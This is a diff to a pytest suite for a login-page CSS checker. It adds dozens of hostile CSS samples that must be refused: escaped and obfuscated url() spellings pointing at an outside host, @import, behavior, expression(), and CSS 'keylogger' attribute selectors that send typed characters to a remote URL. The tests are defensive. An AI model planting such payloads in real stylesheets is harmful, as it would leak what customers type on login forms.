@@ -2,13 +2,19 @@
 
 from __future__ import annotations
 
+import base64
+
 import pytest
-from hypothesis import HealthCheck, given, settings
+import tinycss2
+from hypothesis import HealthCheck, example, given, settings
 from hypothesis import strategies as st
 
+import core.css
 from core.css import (
+    DATA_IMAGE_TYPES,
     LOGIN_PAGE_NAMES,
     MAX_CSS_BYTES,
+    MAX_DATA_IMAGE_BYTES,
     MAX_NESTING,
     STARTER_TEMPLATE,
     ContrastResult,
@@ -132,9 +138,251 @@ HOSTILE: list[tuple[str, str, str, int | None]] = [
 ]
 
 
+# -- no URL that leaves the page (PRODUCT.md, Trust and Bad input) -------------
+#
+# Every spelling a browser reads as a URL (CSS Syntax 3 §4.3.6: the url-token,
+# and the "url(" function-token with a string; escapes decoded, case folded),
+# every function and at-rule that takes one, and every place a rule can sit.
+# The host stands for any outside host; https is no exception.
+HOST = "https://cdn.example.com/a.png"
+BIG_PNG = base64.b64encode(b"\x89PNG" + b"\0" * (MAX_DATA_IMAGE_BYTES - 3)).decode()  # one byte over
+OUTSIDE: list[tuple[str, str, str, int | None]] = [
+    # url(): quoting, case, escapes, whitespace, comments.
+    ("url-https-unquoted", f"{MODAL} {{ background: url({HOST}) }}", "outside-resource", 1),
+    ("url-https-double-quoted", f'{MODAL} {{ background: url("{HOST}") }}', "outside-resource", 1),
+    ("url-https-single-quoted", f"{MODAL} {{ background: url('{HOST}') }}", "outside-resource", 1),
+    ("url-upper-case", f"{MODAL} {{ background: URL({HOST}) }}", "outside-resource", 1),
+    (
+        "url-scheme-mixed-case",
+        f"{MODAL} {{ background: url(HtTpS://cdn.example.com/a.png) }}",
+        "outside-resource",
+        1,
+    ),
+    ("url-escaped-r", rf"{MODAL} {{ background: u\72l({HOST}) }}", "outside-resource", 1),
+    ("url-escaped-u-space", rf"{MODAL} {{ background: \75 rl({HOST}) }}", "outside-resource", 1),
+    ("url-escaped-function-string", rf'{MODAL} {{ background: \75 rl("{HOST}") }}', "outside-resource", 1),
+    (
+        "url-hex-escape-in-scheme",
+        rf"{MODAL} {{ background: url(\68ttps://cdn.example.com/a.png) }}",
+        "outside-resource",
+        1,
+    ),
+    (
+        "url-hex-escaped-slashes",
+        rf'{MODAL} {{ background: url("https:\2f\2f cdn.example.com/a.png") }}',
+        "outside-resource",
+        1,
+    ),
+    (
+        "url-escaped-colon",
+        rf"{MODAL} {{ background: url(https\3a //cdn.example.com/a.png) }}",
+        "outside-resource",
+        1,
+    ),
+    (
+        "url-tab-in-scheme",
+        rf'{MODAL} {{ background: url("ht\9 tps://cdn.example.com/a.png") }}',
+        "outside-resource",
+        1,
+    ),
+    ("url-newlines-inside", f"{MODAL} {{\n  background: url(\n    {HOST}\n  )\n}}", "outside-resource", 2),
+    ("url-string-on-next-line", f'{MODAL} {{\n  background: url(\n"{HOST}")\n}}', "outside-resource", 3),
+    ("url-comment-before-address", f"{MODAL} {{ background: url(/**/{HOST}) }}", "outside-resource", 1),
+    ("url-comment-inside-name", f"{MODAL} {{ background: ur/**/l({HOST}) }}", "outside-resource", 1),
+    (
+        "url-comment-inside-string",
+        f'{MODAL} {{ background: url("https:/**///cdn.example.com/a.png") }}',
+        "outside-resource",
+        1,
+    ),
+    # Other addresses.
+    ("url-http", f"{MODAL} {{ background: url(http://cdn.example.com/a.png) }}", "outside-resource", 1),
+    (
+        "url-protocol-relative-unquoted",
+        f"{MODAL} {{ background: url(//cdn.example.com/a.png) }}",
+        "outside-resource",
+        1,
+    ),
+    (
+        "url-protocol-relative-quoted",
+        f'{MODAL} {{ background: url("//cdn.example.com/a.png") }}',
+        "outside-resource",
+        1,
+    ),
+    (
+        "url-backslashes",
+        rf'{MODAL} {{ background: url("\\\\cdn.example.com/a.png") }}',
+        "outside-resource",
+        1,
+    ),
+    (
+        "url-https-without-slashes",
+        f'{MODAL} {{ background: url("https:cdn.example.com/a.png") }}',
+        "outside-resource",
+        1,
+    ),
+    ("url-ftp", f"{MODAL} {{ background: url(ftp://cdn.example.com/a.png) }}", "outside-resource", 1),
+    ("url-other-scheme", f"{MODAL} {{ background: url(cid:logo) }}", "outside-resource", 1),
+    ("url-relative", f"{MODAL} {{ background: url(logo.png) }}", "outside-resource", 1),
+    ("url-fragment", f"{MODAL} {{ filter: url(#blur) }}", "outside-resource", 1),
+    # Functions that take a URL or a string that is one.
+    ("src-function", f'{MODAL} {{ background: src("{HOST}") }}', "outside-resource", 1),
+    ("src-function-escaped", rf'{MODAL} {{ background: \73 rc("{HOST}") }}', "outside-resource", 1),
+    ("image-function", f'{MODAL} {{ background: image("{HOST}") }}', "outside-resource", 1),
+    (
+        "image-set-bare-relative-string",
+        f'{MODAL} {{ background: image-set("x.png" 1x) }}',
+        "outside-resource",
+        1,
+    ),
+    (
+        "image-set-https-string",
+        f'{MODAL} {{ background: image-set("{HOST}" 1x, "{HOST}" 2x) }}',
+        "outside-resource",
+        1,
+    ),
+    ("image-set-url", f"{MODAL} {{ background: image-set(url({HOST}) 1x) }}", "outside-resource", 1),
+    (
+        "webkit-image-set-string",
+        f'{MODAL} {{ background: -webkit-image-set("{HOST}" 1x) }}',
+        "outside-resource",
+        1,
+    ),
+    ("cross-fade-url", f"{MODAL} {{ background: cross-fade(url({HOST}) 50%, #fff) }}", "outside-resource", 1),
+    (
+        "cross-fade-string",
+        f'{MODAL} {{ background: -webkit-cross-fade("{HOST}", "{HOST}", 50%) }}',
+        "outside-resource",
+        1,
+    ),
+    # Properties that fetch.
+    ("cursor", f"{MODAL} {{ cursor: url({HOST}), auto }}", "outside-resource", 1),
+    ("list-style", f"{MODAL} {{ list-style: square url({HOST}) }}", "outside-resource", 1),
+    ("list-style-image", f'{MODAL} {{ list-style-image: url("{HOST}") }}', "outside-resource", 1),
+    (
+        "mask",
+        f"{MODAL} {{ mask: url({HOST}) no-repeat; -webkit-mask-image: url({HOST}) }}",
+        "outside-resource",
+        1,
+    ),
+    ("filter", f"{MODAL} {{ filter: url(https://cdn.example.com/f.svg#blur) }}", "outside-resource", 1),
+    ("border-image", f"{MODAL} {{ border-image: url({HOST}) 30 round }}", "outside-resource", 1),
+    ("content", f"{HEADER} {{ content: url({HOST}) }}", "outside-resource", 1),
+    ("custom-property", f"{MODAL} {{ --logo: url({HOST}); background: var(--logo) }}", "outside-resource", 1),
+    ("behavior-https", f"{MODAL} {{ behavior: url(https://cdn.example.com/x.htc) }}", "behavior", 1),
+    (
+        "moz-binding-https",
+        f"{MODAL} {{ -moz-binding: url(https://cdn.example.com/x.xml#b) }}",
+        "moz-binding",
+        1,
+    ),
+    ("expression-url", f"{MODAL} {{ background: expression('url({HOST})') }}", "expression", 1),
+    # At-rules.
+    ("import-bare-string", '@import "x.css";', "import", 1),
+    ("import-https-in-media", f"@media screen {{\n  @import url({HOST});\n}}", "import", 2),
+    (
+        "import-in-supports",
+        '@supports (display: grid) { @import "https://cdn.example.com/x.css"; }',
+        "import",
+        1,
+    ),
+    (
+        "font-face-src",
+        f"@font-face {{\n  font-family: Brand;\n  src: url({HOST}) format('woff2');\n}}",
+        "outside-resource",
+        3,
+    ),
+    (
+        "font-face-src-string-function",
+        f'@font-face {{ font-family: B; src: url("{HOST}"), local(Arial) }}',
+        "outside-resource",
+        1,
+    ),
+    ("namespace-url", "@namespace url(https://cdn.example.com/ns);", "namespace", 1),
+    ("namespace-string", '@namespace svg "http://www.w3.org/2000/svg";', "namespace", 1),
+    ("document", f"@document url({HOST}) {{ {MODAL} {{ color: red }} }}", "unknown-at-rule", 1),
+    # Nested at-rules and CSS nesting.
+    (
+        "media-in-supports",
+        f"@supports (display: grid) {{\n  @media screen {{\n    {MODAL} {{ background: url({HOST}) }}\n  }}\n}}",
+        "outside-resource",
+        3,
+    ),
+    (
+        "nesting-ampersand",
+        f"{MODAL} {{\n  & .modalheader {{\n    background: url({HOST});\n  }}\n}}",
+        "outside-resource",
+        3,
+    ),
+    ("nesting-bare", f"{MODAL} {{ .modalheader {{ background: url({HOST}) }} }}", "outside-resource", 1),
+    ("nesting-media", f"{MODAL} {{ @media screen {{ background: url({HOST}) }} }}", "outside-resource", 1),
+    (
+        "layer-in-container",
+        f"@container (min-width: 1px) {{ @layer b {{ {MODAL} {{ background: url({HOST}) }} }} }}",
+        "outside-resource",
+        1,
+    ),
+    # data: URLs other than a raster image under the limit.
+    (
+        "data-svg",
+        f'{MODAL} {{ background: url("data:image/svg+xml;base64,PHN2Zz4=") }}',
+        "outside-resource",
+        1,
+    ),
+    (
+        "data-svg-upper-case",
+        f"{MODAL} {{ background: url(DATA:IMAGE/SVG+XML,%3Csvg%3E) }}",
+        "outside-resource",
+        1,
+    ),
+    ("data-html", f'{MODAL} {{ background: url("data:text/html,hi") }}', "outside-resource", 1),
+    ("data-no-type", f"{MODAL} {{ background: url(data:,x) }}", "outside-resource", 1),
+    ("data-avif", f"{MODAL} {{ background: url(data:image/avif;base64,AAAA) }}", "outside-resource", 1),
+    ("data-no-comma", f"{MODAL} {{ background: url(data:image/png;base64) }}", "outside-resource", 1),
+    (
+        "data-bad-base64",
+        f"{MODAL} {{ background: url(data:image/png;base64,iVBO*RK) }}",
+        "outside-resource",
+        1,
+    ),
+    (
+        "data-png-over-limit",
+        f"{MODAL} {{ background: url(data:image/png;base64,{BIG_PNG}) }}",
+        "outside-resource",
+        1,
+    ),
+    (
+        "data-gif-over-limit-percent-encoded",
+        f"{MODAL} {{ background: url(data:image/gif,{'%00' * 10 + 'x' * MAX_DATA_IMAGE_BYTES}) }}",
+        "outside-resource",
+        1,
+    ),
+    # Attribute selectors that read a form (the CSS "keylogger").
+    ("keylogger", f"input[value^=a] {{ background: url({HOST}?a) }}", "attribute-selector", 1),
+    (
+        "keylogger-data-url",
+        '#password[value$="x"] { background: url(data:image/png;base64,iVBORw0KGgo=) }',
+        "attribute-selector",
+        1,
+    ),
+    ("value-any-element", '[value="a"] { color: red }', "attribute-selector", 1),
+    ("value-upper-case", 'INPUT[VALUE^="a"] { color: red }', "attribute-selector", 1),
+    ("value-escaped", r"input[va\6c ue^=a] { color: red }", "attribute-selector", 1),
+    ("value-namespaced", "[*|value^=a] { color: red }", "attribute-selector", 1),
+    ("input-type", "\ninput[type=password] { color: red }", "attribute-selector", 2),
+    ("textarea-placeholder", "textarea[placeholder] { color: red }", "attribute-selector", 1),
+    ("option-selected", "select option[selected] { color: red }", "attribute-selector", 1),
+    ("has-value", f"{MODAL}:has(input[value^=a]) {{ color: red }}", "attribute-selector", 1),
+    ("is-input", ":is(input)[name=otp] { color: red }", "attribute-selector", 1),
+    ("nested-value", "#otp-code { &[value^=a] { color: red } }", "attribute-selector", 1),
+    ("nested-under-input", "input {\n  &[name=otp] { color: red }\n}", "attribute-selector", 2),
+    ("scope-input", "@scope (input) { [name=otp] { color: red } }", "attribute-selector", 1),
+]
+
+
 @pytest.mark.parametrize(
     ("css", "rule", "line"),
-    [pytest.param(css, rule, line, id=case_id) for case_id, css, rule, line in HOSTILE],
+    [pytest.param(css, rule, line, id=case_id) for case_id, css, rule, line in HOSTILE + OUTSIDE],
 )
 def test_hostile_css_is_refused(css: str, rule: str, line: int | None) -> None:
     report = check_css(css)
@@ -178,6 +426,55 @@ def test_decode_css_escapes(escaped: str, decoded: str) -> None:
 
 def test_corpus_is_large_enough() -> None:
     assert len(HOSTILE) >= 30
+    assert len(OUTSIDE) >= 40
+
+
+@pytest.mark.parametrize(
+    "css",
+    [pytest.param(css, id=case_id) for case_id, css, rule, _ in OUTSIDE if rule == "outside-resource"],
+)
+def test_each_outside_url_says_why_in_one_sentence(css: str) -> None:
+    found = [f for f in check_css(css).errors if f.rule == "outside-resource"]
+    assert found
+    for finding in found:
+        assert finding.message.startswith(f"Line {finding.line}: ")
+        assert finding.message.endswith(
+            (
+                "; only data: images under 32 KiB are allowed.",
+                "; only data: images in PNG, JPEG, GIF or WebP under 32 KiB are allowed.",
+            )
+        )
+        assert finding.message.count(". ") == 0  # one sentence
+
+
+def test_an_outside_url_names_its_line_and_the_rule() -> None:
+    css = f"{MODAL} {{\n  color: #000;\n  background-color: #fff;\n  background-image: url({HOST});\n}}"
+    (finding,) = check_css(css).errors
+    assert (finding.line, finding.column, finding.rule) == (4, 21, "outside-resource")
+    assert finding.message == (
+        "Line 4: url(https://cdn.example.com/a.png) loads from another host; "
+        "only data: images under 32 KiB are allowed."
+    )
+
+
+def test_the_data_image_limit_is_32_kib_decoded_and_stated() -> None:
+    assert MAX_DATA_IMAGE_BYTES == 32 * 1024
+    assert {"image/png", "image/jpeg", "image/gif", "image/webp"} == DATA_IMAGE_TYPES
+    assert "32 KiB" in (core.css.__doc__ or "")
+    at_limit = base64.b64encode(b"\x89PNG" + b"\0" * (MAX_DATA_IMAGE_BYTES - 4)).decode()
+    assert check_css(f"{MODAL} {{ background: url(data:image/png;base64,{at_limit}) }}").ok
+    (finding,) = check_css(f"{MODAL} {{ background: url(data:image/png;base64,{BIG_PNG}) }}").errors
+    assert "holds an image of 32,769 bytes once decoded" in finding.message
+
+
+def test_a_keylogger_is_refused_for_both_reasons() -> None:
+    report = check_css("input[value^=a] { background: url(https://cdn.example.com/k?a) }")
+    assert {f.rule for f in report.errors} == {"attribute-selector", "outside-resource"}
+    (attribute,) = [f for f in report.errors if f.rule == "attribute-selector"]
+    assert attribute.message == (
+        "Line 1: the attribute selector [value^=a] is not allowed: a selector on a form field's "
+        "value can read what a customer types, one character at a time."
+    )
 
 
 def test_comment_inside_at_keyword_is_not_an_import() -> None:
@@ -228,8 +525,8 @@ def test_findings_carry_line_and_column() -> None:
     assert (finding.line, finding.column) == (3, 15)
     assert finding.rule == "outside-resource"
     assert finding.message == (
-        "Line 3: url(http://e.example/x.png) is not allowed: "
-        "it loads from elsewhere over plain http, not https."
+        "Line 3: url(http://e.example/x.png) loads from another host; "
+        "only data: images under 32 KiB are allowed."
     )
 
 
@@ -251,16 +548,21 @@ def test_rejected_str_lists_every_error_with_its_line() -> None:
 GOOD = [
     pytest.param(STARTER_TEMPLATE, id="starter"),
     pytest.param("", id="empty"),
-    pytest.param(f"{MODAL} {{ background: #fff url(https://cdn.example.com/bg.png) no-repeat }}", id="https"),
+    pytest.param(f"{MODAL} {{ color: #1f2933; background-color: white }}", id="plain-colours"),
+    pytest.param(f"{HEADER} {{ color: rgb(255 255 255); background: hsl(215 85% 30%) }}", id="colour-forms"),
     pytest.param(
-        f'{MODAL} {{ background-image: url("https://cdn.example.com/a b.png") }}', id="https-quoted"
+        f"{MODAL} {{ background: #fff url(data:image/png;base64,iVBORw0KGgo=) no-repeat }}", id="data-png"
     ),
-    pytest.param(f"{HEADER} {{ background-image: url(data:image/png;base64,iVBORw0KGgo=) }}", id="data-png"),
-    pytest.param(f'{HEADER} {{ background-image: url("data:image/webp;base64,UklGRg==") }}', id="data-webp"),
     pytest.param(
-        f'{MODAL} {{ background-image: image-set("https://c.example/a.png" 1x, '
-        "url(https://c.example/b.png) 2x) }",
-        id="image-set",
+        f'{HEADER} {{ background-image: url("data:image/png;base64,iVBORw0KGgo=") }}', id="data-png-quoted"
+    ),
+    pytest.param(f'{HEADER} {{ background-image: url("data:image/webp;base64,UklGRg==") }}', id="data-webp"),
+    pytest.param(f"{HEADER} {{ background-image: url('DATA:IMAGE/JPEG;BASE64,/9j/4A==') }}", id="data-jpeg"),
+    pytest.param(f"{HEADER} {{ background-image: url(data:image/gif,GIF89a) }}", id="data-gif-percent"),
+    pytest.param(
+        f'{MODAL} {{ background-image: image-set("data:image/png;base64,iVBORw0KGgo=" 1x, '
+        "url(data:image/png;base64,iVBORw0KGgo=) 2x) }",
+        id="image-set-data",
     ),
     pytest.param(
         f"@media (max-width: 600px) {{\n  {MODAL} {{ width: 100%; }}\n}}\n"
@@ -274,9 +576,9 @@ GOOD = [
         id="layer-container",
     ),
     pytest.param(
-        '@font-face { font-family: "Brand"; src: url(https://fonts.example/b.woff2) format("woff2"), '
-        'local("Arial") }\n' + f'{HEADER} {{ font-family: "Brand", sans-serif }}',
-        id="font-face-https",
+        '@font-face { font-family: "Brand"; src: local("Arial") }\n'
+        + f'{HEADER} {{ font-family: "Brand", sans-serif }}',
+        id="font-face-local",
     ),
     pytest.param(
         "@keyframes pop { from { opacity: 0 } 50% { opacity: .5 } to { opacity: 1 } }\n"
@@ -296,6 +598,11 @@ GOOD = [
     pytest.param(f"/* a comment */ {MODAL} {{ /* inner */ color: #111 }}", id="comments"),
     pytest.param(f"{MODAL} > .modalbody + .buttons ~ *, html, body, :root {{ margin: 0 }}", id="combinators"),
     pytest.param(f"{MODAL} [data-x='1'] {{ color: #000 }}", id="attribute-selector"),
+    pytest.param(f"{MODAL}[role=dialog] .instruction {{ color: #000 }}", id="attribute-not-on-a-field"),
+    pytest.param("#login-form .box-inner .modalheader {}\n.modal { color: #000 }", id="the-two-selectors"),
+    pytest.param(
+        f"/* logo from https://brand.example/logo.png */ {MODAL} {{ color: #000 }}", id="url-in-comment"
+    ),
     pytest.param(f"{MODAL}\r\n{{\r\n\tcolor:\f#000 }}", id="crlf-ff"),
 ]
 
@@ -328,8 +635,11 @@ def test_stored_css_drops_comments() -> None:
     assert report.css == f"{MODAL} {{ color:  #000 }}\n"
 
 
-def test_namespace_is_allowed() -> None:
-    assert check_css('@namespace svg "http://www.w3.org/2000/svg";').ok
+def test_namespace_is_refused() -> None:
+    # It names an address, and the login page is HTML with no other namespace.
+    (finding,) = check_css('@namespace svg "http://www.w3.org/2000/svg";').errors
+    assert finding.rule == "namespace"
+    assert finding.message.startswith("Line 1: @namespace is not allowed")
 
 
 # -- colours and contrast ------------------------------------------------------
@@ -449,7 +759,8 @@ def test_header_inherits_modal_text_colour() -> None:
 
 def test_contrast_ignores_what_it_cannot_compute() -> None:
     assert check_css(f"{MODAL} {{ color: var(--x); background: #fff }}").contrast == ()
-    assert check_css(f"{MODAL} {{ color: #777; background: url(https://c.example/x.png) }}").contrast == ()
+    image = "url(data:image/png;base64,iVBORw0KGgo=)"
+    assert check_css(f"{MODAL} {{ color: #777; background: {image} }}").contrast == ()
 
 
 def test_state_variants_are_not_the_base_colours() -> None:
@@ -510,3 +821,55 @@ def test_css_like_text_never_leaks_a_less_than(text: str) -> None:
         assert "<" not in report.css
         assert "javascript:" not in report.css.lower().replace("/**/", "")
         assert check_css(report.css).css == report.css
+
+
+URL_ALPHABET = st.sampled_from(
+    [
+        *"(){}:;,\"' \n/\\",
+        "url(",
+        "URL(",
+        "u\\72l(",
+        "src(",
+        "image-set(",
+        "https:",
+        "//",
+        "\\2f",
+        "cdn.example.com",
+        "data:image/png;base64,iVBORw0KGgo=",
+        "data:image/svg+xml,",
+        "/**/",
+        "@import ",
+        ".modal",
+        "a",
+    ]
+)
+
+
+def _urls(nodes) -> list[str]:
+    """Every url-token value and every string argument of url()/src() in a token tree."""
+    found: list[str] = []
+    for node in nodes:
+        if node.type == "url":
+            found.append(node.value)
+        elif node.type == "function":
+            if node.lower_name in ("url", "src", "image-set", "-webkit-image-set", "image"):
+                found += [a.value for a in node.arguments if a.type == "string"]
+            found += _urls(node.arguments)
+        elif node.type.endswith("block"):
+            found += _urls(node.content)
+    return found
+
+
+@settings(max_examples=400, deadline=None)
+@given(st.lists(URL_ALPHABET, max_size=25).map("".join))
+@example(".modal{a:url(https://cdn.example.com)}")
+@example('.modal{a:image-set("//cdn.example.com" 1x)}')
+def test_stored_css_holds_no_url_but_a_data_image(text: str) -> None:
+    report = check_css(text)
+    if not report.ok:
+        return
+    # Read back with the tokenizer a browser follows (CSS Syntax 3), not the checker.
+    tokens = tinycss2.parse_component_value_list(report.css, skip_comments=True)
+    for url in _urls(tokens):
+        assert url.strip().lower().startswith("data:image/png;base64,"), url
+    assert "://" not in decode_css_escapes(report.css)
